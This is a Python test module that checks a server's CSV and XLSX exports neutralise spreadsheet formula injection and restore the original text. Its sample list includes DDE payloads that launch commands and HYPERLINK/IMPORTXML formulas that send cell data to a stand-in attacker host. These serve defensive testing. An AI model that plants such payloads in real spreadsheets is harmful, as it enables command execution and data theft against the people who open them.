"""A11: no cell and no header is a formula, in CSV or XLSX, and the text comes back."""

from __future__ import annotations

import csv
import io
import random
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.growth import least_time
from widget_server.exports import files
from widget_server.exports.files import csv_chunks, write_xlsx
from widget_server.exports.inert import inert, restored

KNOWN = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=IMPORTXML("http://evil.example","//a")',
    "=DDE(\"cmd\";\"/C calc\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060=1+1",
    "\u202e=1+1", "\u00ad=1+1", "=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u00a0＝1+1", "﹢1", "﹣1", "\u22121",
    "'=1+1", "''=1+1", "'", "''",
    "a;=1+1", "a;  =1+1;", "a\t=1+1", "a\r\n=1+1", "a\n-1+cmd", "a;'=1", 'a";=1+1;"', "a;\u00a0＠x", "<r><t>x</t></r>",
    "<r></t></is></c><c r=\"A9\"><f>1+1</f></c></r>", "_x003D_1+1",
    "_x000D_=1", "%0A-3+3+cmd|' /C calc'!D2", ";=cmd|'/c calc'!A1",
    "\x00=1", "\x1f=1", "=\x00", "-", "- a list\n- of things", "+47 22 33 44 55", "plain", "",
    "ยอดเยี่ยม", "5 > 3", "it’s 'fine'",
)  # fmt: skip
SIGNS = "=+-@'<;,\t\r\n \u00a0\u200b\u3000\ufeff＝＋－＠\"|ab1!()&_x0"
FORMULA = re.compile(r"[\s\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\x00-\x1f]*[=+\-@＝＋－＠﹢﹣\u2212]")


def hostile(count: int) -> list[str]:
    chance = random.Random(7)
    made = ["".join(chance.choice(SIGNS) for _ in range(chance.randint(1, 12))) for _ in range(count - len(KNOWN))]
    return [*KNOWN, *made]


TEXTS = hostile(10_000)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_line_of_a_csv_begins_a_formula_whatever_it_is_split_on(separator: str) -> None:
    file = b"".join(csv_chunks(TEXTS[:50], [[text] for text in TEXTS])).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(file, newline=""), delimiter=separator) for cell in line]
    assert len(cells) >= 10_000
    assert [cell for cell in cells if FORMULA.match(cell)] == []


def test_the_text_of_cells_and_headers_comes_back_from_a_csv() -> None:
    file = b"".join(csv_chunks(TEXTS[:50], [[text] for text in TEXTS])).decode("utf-8-sig")
    header, *lines = csv.reader(io.StringIO(file, newline=""))
    assert [restored(name) for name in header] == TEXTS[:50]
    assert [restored(line[0]) if line else "" for line in lines] == TEXTS


def test_a_sheet_has_no_formula_and_the_text_comes_back(tmp_path: Path) -> None:
    path = tmp_path / "all.xlsx"
    assert write_xlsx(path, TEXTS[:50], ([text] for text in TEXTS)) == 10_000
    sheet = load_workbook(path, read_only=True).active
    rows = list(sheet.iter_rows())
    cells = [cell for row in rows for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not [cell for cell in cells if isinstance(cell.value, str) and FORMULA.match(cell.value)]
    assert [back(row[0].value) for row in rows[1:]] == TEXTS
    assert [back(cell.value) for cell in rows[0]] == TEXTS[:50]


def back(value: object) -> str:
    """As Excel reads it: `_x000D_` is a sign that XML can't hold (ECMA-376, ST_Xstring)."""
    text = "" if value is None else str(value)
    return restored(re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text))


@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    assert restored(inert(text)) == text
    assert not FORMULA.match(inert(text))


@pytest.mark.parametrize("text", ["plain", "5 > 3", "it’s 'fine'", "a - b", "x=y", "me@example.com", "two\nlines"])
def test_what_nothing_could_run_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_a_text_longer_than_a_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    path = tmp_path / "long.xlsx"
    write_xlsx(path, ["a"], [["😀" * 40_000]])
    value = load_workbook(path, read_only=True).active["A2"].value
    assert value.endswith(files.CUT)
    assert len(value.encode("utf-16-le")) // 2 <= files.LONGEST_CELL


def test_the_proof_notices_a_guard_that_is_gone(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "inert", lambda text: text)
    with pytest.raises(AssertionError):
        test_no_line_of_a_csv_begins_a_formula_whatever_it_is_split_on(",")


def test_a_text_of_blanks_is_read_once_and_not_from_each_of_them() -> None:
    """Ten thousand empty lines took a second before they were; a hundredth of it is far more than is needed now."""
    for text in ("\n" * 300_000, "\t" * 300_000, "\n " * 150_000, ";\n" * 150_000):
        assert restored(inert(f"a{text}a")) == f"a{text}a"
        assert least_time(lambda text=text: restored(inert(f"a{text}a")), 1) < 10  # type: ignore[misc]
